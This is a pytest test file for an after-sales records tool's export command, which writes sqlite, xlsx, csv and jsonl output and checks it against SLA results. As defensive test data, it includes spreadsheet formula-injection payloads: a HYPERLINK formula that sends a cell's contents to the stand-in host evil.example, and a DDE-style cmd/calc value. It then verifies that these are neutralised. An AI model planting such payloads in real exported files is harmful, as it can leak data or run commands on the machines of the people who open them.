"""`aftersales export`: read back with openpyxl, csv, json and sqlite3 and compared with the records
and with `sla --format json`; formula payloads neutralised; several records folders at once."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import shutil
import sqlite3
from pathlib import Path

import pytest
from conftest import INSPECTION, Records, event, run, ticket
from openpyxl import load_workbook

from aftersales.store.spec import EVENT
from aftersales.views.export import BY_NAME, TABLES
from aftersales.views.exportfiles import _parents_first, schema_sql

AT = "2026-03-20"
PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture
def school(records: Records) -> Records:
    """One repair ticket (responded late, resolved with 2 bolts, a callback), one with a formula for a
    summary, and the conftest inspection (one check entry with two results, one finding)."""
    records.write("tickets/2026/T-1.yaml", ticket(
        event("09:12", "reported"), event("12:00", "responded", ", by: eng-zhang"),
        event("15:00", "resolved", ", parts: [{part: BOLT-M8, qty: 2}], cost: 0"),
        event("16:00", "callback", ", satisfaction: 5"), extra="reporter: {name: 王老师, phone: '13800001234'}\n"))
    records.write("tickets/2026/T-2.yaml", f"id: T-2\nkind: inquiry\nsummary: '{PAYLOAD}'\n"
                  "location: +cmd|' /C calc'!A0\nevents:\n"
                  "  - {at: 2026-03-15T10:00:00+08:00, type: reported, by: '@SUM(1+1)'}\n")
    records.write("inspections/2026/INS-1.yaml", INSPECTION)
    assert records.run().exit_code == 0, records.run().output
    return records


def export(records: Records | list[Records], *args: str, at: str = AT):
    folders = records if isinstance(records, list) else [records]
    flags = [x for r in folders for x in ("--records", str(r.root))]
    result = run("export", *flags, "--at", at, *args)
    assert result.exit_code == 0, result.output
    return result


def sla_json(records: Records, *args: str) -> list[dict]:
    return json.loads(run("sla", "--records", str(records.root), "--at", AT, "--format", "json", *args).stdout)


# --- sqlite -------------------------------------------------------------------------------------

def test_sqlite_holds_the_records_with_keys_and_matches_sla(school, tmp_path):
    out = tmp_path / "out.sqlite"
    result = export(school, "-o", str(out), "-v")
    assert result.stdout == (
        "table                rows\n"
        "-----------------  ------\n"
        "projects                1\n"
        "assets                  1\n"
        "tickets                 2\n"
        "events                  5\n"
        "sla_cycles              1\n"
        "inspections             1\n"
        "checks                  2\n"
        "findings                1\n"
        "parts                   1\n"
        "part_movements          2\n"
        "maintenance_slots       1\n")
    assert result.stderr == f"wrote {out} (1 project: records)\n"
    db = sqlite3.connect(out)
    assert db.execute("PRAGMA foreign_key_check").fetchall() == []
    assert db.execute("SELECT * FROM projects").fetchall() == [
        ("records", "测试项目", None, None, "Asia/Shanghai", "2026-03-20T00:00:00+08:00")]
    events = db.execute("SELECT seq, at, type, by, parts, cost, satisfaction FROM events "
                        "WHERE ticket = 'T-1' ORDER BY seq").fetchall()
    assert events == [(1, "2026-03-14T09:12:00+08:00", "reported", None, None, None, None),
                      (2, "2026-03-14T12:00:00+08:00", "responded", "eng-zhang", None, None, None),
                      (3, "2026-03-14T15:00:00+08:00", "resolved", None, "BOLT-M8:2", 0, None),
                      (4, "2026-03-14T16:00:00+08:00", "callback", None, None, None, 5)]
    # the one cycle: response of T-1, due 2 h after the 09:12 report (lobby is critical), so 11:12;
    # responded at 12:00: breached by 48 minutes
    [expected] = sla_json(school)
    cycle = db.execute("SELECT ticket, target, cycle, status, start, deadline, stop, elapsed, allowed, margin "
                       "FROM sla_cycles").fetchone()
    assert cycle == (expected["ticket"], expected["target"], expected["cycle"], expected["status"],
                     expected["start"], expected["deadline"], expected["stop"], expected["elapsed"],
                     expected["allowed"], -2880)
    assert cycle[5] == "2026-03-14T11:12:00+08:00" and cycle[3] == "breached"
    ticket_row = db.execute("SELECT status, asset, area, priority, reporter, reported, quarter, resolved, visits, "
                            "cost, satisfaction, in_warranty FROM tickets WHERE ticket = 'T-1'").fetchone()
    assert ticket_row == ("resolved", "CHAIR-1", "lobby", "critical", "王老师", "2026-03-14T09:12:00+08:00", "2026Q1",
                          "2026-03-14T15:00:00+08:00", 0, 0, 5, 1)
    assert "13800001234" not in out.read_bytes().decode("utf-8", "replace")
    assert db.execute("SELECT part, seq, date, kind, quantity, ticket FROM part_movements").fetchall() == [
        ("BOLT-M8", 1, "2026-01-05", "in", 200, None), ("BOLT-M8", 2, "2026-03-14", "used", 2, "T-1")]
    assert db.execute("SELECT stock, low FROM parts").fetchall() == [(198, 0)]
    assert db.execute("SELECT inspection, entry, asset, item, result FROM checks ORDER BY item").fetchall() == [
        ("INS-1", 1, "CHAIR-1", "appearance", "ok"), ("INS-1", 1, "CHAIR-1", "function", "issue")]
    assert db.execute("SELECT finding, asset, problem, status FROM findings").fetchall() == [
        ("F1", "CHAIR-1", "靠背回弹不足", "open")]
    # INS-1 is dated 2026-03-27, after --at: the slot is still to come
    assert db.execute("SELECT plan, due, quarter, opens, status, inspection FROM maintenance_slots").fetchall() == [
        ("quarterly", "2026-03-31", "2026Q1", "2026-03-31", "upcoming", None)]
    # text stays exactly as written in SQL: a database does not run formulas
    assert db.execute("SELECT summary FROM tickets WHERE ticket = 'T-2'").fetchone() == (PAYLOAD,)


def test_sqlite_schema_has_keys_and_indexes_on_ticket_asset_and_date(school, tmp_path):
    out = tmp_path / "out.db"
    export(school, "-o", str(out))
    db = sqlite3.connect(out)
    keys = db.execute("SELECT * FROM pragma_foreign_key_list('findings')").fetchall()
    assert sorted({row[2] for row in keys}) == ["assets", "inspections", "tickets"]
    indexes = {row[0] for row in db.execute("SELECT name FROM sqlite_master WHERE type = 'index'")}
    assert {"tickets_by_project_asset", "tickets_by_reported", "events_by_at", "sla_cycles_by_start"} <= indexes
    assert [row[5] for row in db.execute("PRAGMA table_info(events)")][:4] == [1, 2, 3, 0]  # (project, ticket, seq)
    with pytest.raises(sqlite3.IntegrityError):
        db.execute("PRAGMA foreign_keys = ON")
        db.execute("INSERT INTO events (project, ticket, seq) VALUES ('records', 'T-9', 1)")


def test_the_events_table_has_a_column_per_event_field_of_the_spec():
    assert BY_NAME["events"].names == ("project", "ticket", "seq", *EVENT.order)
    assert {c.name: c.type for c in BY_NAME["events"].columns}["logged"] == "instant"


def test_every_referenced_table_is_created_and_filled_first():
    order = [t.name for t in _parents_first()]
    for table in TABLES:
        for _, target, _ in table.foreign:
            assert order.index(target) < order.index(table.name)
    assert len(schema_sql()) == len(TABLES) + sum(len(t.indexes) for t in TABLES)


# --- xlsx ---------------------------------------------------------------------------------------

def test_xlsx_has_a_sheet_per_table_styled_frozen_and_typed(school, tmp_path):
    out = tmp_path / "out.xlsx"
    export(school, "-o", str(out))
    book = load_workbook(out)
    assert book.sheetnames == [t.name for t in TABLES]
    for table in TABLES:
        ws = book[table.name]
        assert [c.value for c in ws[1]] == list(table.names)
        assert ws.freeze_panes == "A2"
        assert ws["A1"].font.bold
    tickets = book["tickets"]
    assert tickets.max_row == 3
    header = [c.value for c in tickets[1]]
    t1 = dict(zip(header, [c for c in tickets[2]], strict=True))
    assert t1["ticket"].value == "T-1"
    assert t1["reported"].value == dt.datetime(2026, 3, 14, 9, 12)   # a real date, in local time
    assert t1["reported"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert t1["in_warranty"].value is True
    t2 = dict(zip(header, [c for c in tickets[3]], strict=True))
    assert t2["summary"].value == "'" + PAYLOAD and t2["summary"].data_type == "s"
    assert t2["location"].value == "'+cmd|' /C calc'!A0"
    assert book["events"]["F6"].value == "'@SUM(1+1)"  # `by` of T-2's report
    assets = book["assets"]
    installed = next(c for c in assets[2] if assets.cell(1, c.column).value == "installed")
    assert installed.value == dt.datetime(2025, 8, 20) and installed.number_format == "yyyy-mm-dd"
    # Chinese counts double: the name column fits 报告厅剧院椅 (6 characters, 12 cells) and a margin
    assert assets.column_dimensions["C"].width == 14
    cycles = book["sla_cycles"]
    [expected] = sla_json(school)
    deadline = next(c for c in cycles[2] if cycles.cell(1, c.column).value == "deadline").value
    assert deadline == dt.datetime.fromisoformat(expected["deadline"]).replace(tzinfo=None)


def test_the_same_records_give_the_same_bytes(school, tmp_path):
    for name in ("a.xlsx", "b.xlsx", "a.sqlite", "b.sqlite"):
        export(school, "-o", str(tmp_path / name))
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
    assert (tmp_path / "a.sqlite").read_bytes() == (tmp_path / "b.sqlite").read_bytes()


# --- csv and jsonl ------------------------------------------------------------------------------

def test_csv_files_read_back_with_neutralised_formulas(school, tmp_path):
    out = tmp_path / "csv"
    export(school, "--format", "csv", "-o", str(out))
    assert sorted(p.name for p in out.iterdir()) == sorted(f"{t.name}.csv" for t in TABLES)
    raw = (out / "tickets.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"))))
    assert [r["ticket"] for r in rows] == ["T-1", "T-2"]
    assert rows[1]["summary"] == "'" + PAYLOAD and rows[1]["location"] == "'+cmd|' /C calc'!A0"
    assert rows[0]["reported"] == "2026-03-14T09:12:00+08:00" and rows[0]["in_warranty"] == "true"
    assert rows[1]["asset"] == ""
    events = list(csv.DictReader((out / "events.csv").open(encoding="utf-8", newline="")))
    assert [(e["seq"], e["type"]) for e in events if e["ticket"] == "T-1"] == [
        ("1", "reported"), ("2", "responded"), ("3", "resolved"), ("4", "callback")]
    assert [e["by"] for e in events if e["ticket"] == "T-2"] == ["'@SUM(1+1)"]
    [cycle] = list(csv.DictReader((out / "sla_cycles.csv").open(encoding="utf-8", newline="")))
    assert cycle["deadline"] == sla_json(school)[0]["deadline"]


def test_excel_bom_starts_every_csv_with_a_byte_order_mark(school, tmp_path):
    out = tmp_path / "csv"
    export(school, "--format", "csv", "--excel-bom", "-o", str(out))
    for path in out.iterdir():
        assert path.read_bytes().startswith(b"\xef\xbb\xbfproject,")


def test_jsonl_keeps_the_text_exactly(school, tmp_path):
    out = tmp_path / "jsonl"
    export(school, "--format", "jsonl", "-o", str(out))
    tickets = [json.loads(line) for line in (out / "tickets.jsonl").read_text(encoding="utf-8").splitlines()]
    assert tickets[1]["summary"] == PAYLOAD and tickets[1]["status"] == "open"
    assert list(tickets[0]) == [c.name for c in TABLES[2].columns]
    assert tickets[0]["in_warranty"] is True and tickets[0]["cost"] == 0


# --- as of --at ---------------------------------------------------------------------------------

def test_the_computed_tables_are_as_of_at(school, tmp_path):
    out = tmp_path / "early.sqlite"
    export(school, "-o", str(out), at="2026-03-14 10:00")
    db = sqlite3.connect(out)
    assert db.execute("SELECT status, margin FROM sla_cycles").fetchone() == ("running", 7200 - 2880)
    assert db.execute("SELECT ticket, status, resolved, visits FROM tickets").fetchall() == [
        ("T-1", "open", None, 0), ("T-2", None, None, None)]
    assert db.execute("SELECT count(*) FROM events").fetchone() == (5,)   # the records as written
    assert db.execute("SELECT stock FROM parts").fetchone() == (200,)


# --- several contracts ---------------------------------------------------------------------------

def second_school(school: Records, name: str, project_id: str | None = None) -> Records:
    other = Records.__new__(Records)
    other.root = school.root.parent / name
    shutil.copytree(school.root, other.root)
    if project_id:
        other.edit("aftersales.yaml", "  timezone: Asia/Shanghai\n", f"  timezone: Asia/Shanghai\n  id: {project_id}\n")
    return other


def test_two_records_folders_export_together_with_their_project_on_every_row(school, tmp_path):
    other = second_school(school, "school-b", project_id="suzhou-b")
    shutil.rmtree(other.root / "tickets" / "2026")
    (other.root / "tickets" / "2026").mkdir()
    out = tmp_path / "all.sqlite"
    result = export([school, other], "-o", str(out), "-v")
    assert result.stderr == f"wrote {out} (2 projects: records, suzhou-b)\n"
    db = sqlite3.connect(out)
    assert db.execute("SELECT project FROM projects ORDER BY 1").fetchall() == [("records",), ("suzhou-b",)]
    assert db.execute("SELECT project, count(*) FROM tickets GROUP BY 1").fetchall() == [("records", 2)]
    assert db.execute("SELECT project, count(*) FROM assets GROUP BY 1").fetchall() == [
        ("records", 1), ("suzhou-b", 1)]
    for table in TABLES:
        assert db.execute(f'SELECT count(*) FROM "{table.name}" WHERE project IS NULL').fetchone() == (0,)


def test_a_parent_folder_holding_records_folders_exports_them_all(school, tmp_path):
    second_school(school, "school-b")
    (tmp_path / "notes").mkdir()  # not a records folder: passed over
    out = tmp_path / "all.xlsx"
    result = run("export", "--records", str(tmp_path), "--at", AT, "-o", str(out), "-v")
    assert result.exit_code == 0, result.output
    assert result.stderr == f"wrote {out} (2 projects: records, school-b)\n"
    rows = list(load_workbook(out)["projects"].values)
    assert [r[0] for r in rows] == ["project", "records", "school-b"]


def test_the_cross_school_query_of_the_readme_runs_on_an_export(school, tmp_path):
    other = second_school(school, "school-b")
    other.write("tickets/2026/T-1.yaml", ticket(event("09:12", "reported"), event("10:00", "responded")))
    out = tmp_path / "all.sqlite"
    export([school, other], "-o", str(out))
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    queries = re.findall(r"<!-- query:(\w+) -->\n```sql\n(.*?)```", readme, re.S)
    assert [name for name, _ in queries] == ["compliance", "missed"]
    db = sqlite3.connect(out)
    compliance = dict(queries)["compliance"]
    assert db.execute(compliance).fetchall() == [
        ("records", "2026Q1", "response", 0, 1, 0.0), ("school-b", "2026Q1", "response", 1, 0, 1.0)]
    missed = dict(queries)["missed"].replace("'on-site'", "'response'").replace("2026Q3", "2026Q1")
    assert db.execute(missed).fetchall() == [("records", 1)]


# --- refusals -----------------------------------------------------------------------------------

def test_export_refuses_what_it_cannot_do(school, tmp_path):
    def fails(*args: str) -> tuple[int, str]:
        result = run("export", "--records", str(school.root), *args)
        return result.exit_code, result.stderr

    assert fails("-o", str(tmp_path / "x.csv")) == (
        2, "Error: --format: say which (xlsx, csv, jsonl or sqlite); only .xlsx, .sqlite and .db files tell it "
           "by their name\n")
    assert fails("-o", str(tmp_path / "x.xlsx"), "--excel-bom") == (2, "Error: --excel-bom is for --format csv\n")
    assert fails("-o", str(school.root / "tickets" / "x.xlsx"))[0] == 2
    (tmp_path / "file").write_text("")
    assert fails("--format", "csv", "-o", str(tmp_path / "file")) == (
        2, f"Error: -o {tmp_path / 'file'}: csv writes one file per table into a folder, and this is a file\n")
    twin = second_school(school, "twin")
    twin.root.rename(tmp_path / "dup")
    (tmp_path / "dup2").mkdir()
    shutil.copytree(tmp_path / "dup", tmp_path / "dup2" / "records")
    result = run("export", "--records", str(school.root), "--records", str(tmp_path / "dup2"), "-o",
                 str(tmp_path / "x.xlsx"))
    assert result.exit_code == 2
    assert result.stderr == (f"Error: two records folders are project 'records' ({school.root} and "
                             f"{tmp_path / 'dup2' / 'records'}): give each a `project.id` in aftersales.yaml\n")
    assert not (tmp_path / "x.xlsx").exists()


def test_a_folder_that_does_not_validate_is_named_and_nothing_is_written(school, tmp_path):
    school.write("assets/BAD.yaml", "id: BAD\nname: x\ncategory: y\narea: attic\n")
    result = run("export", "--records", str(school.root), "-o", str(tmp_path / "x.sqlite"))
    assert result.exit_code == 1
    assert result.stderr.startswith(f"Error: {school.root}: the records do not validate (1 error); nothing was "
                                    "computed:\n  assets/BAD.yaml:4:1: error[unknown-area]")
    assert not (tmp_path / "x.sqlite").exists()
    nothing = run("export", "--records", str(tmp_path / "nope"), "-o", str(tmp_path / "x.sqlite"))
    assert (nothing.exit_code, nothing.stderr) == (
        2, f"Error: --records {tmp_path / 'nope'}: neither a records folder (no aftersales.yaml) nor a folder "
           "holding records folders\n")
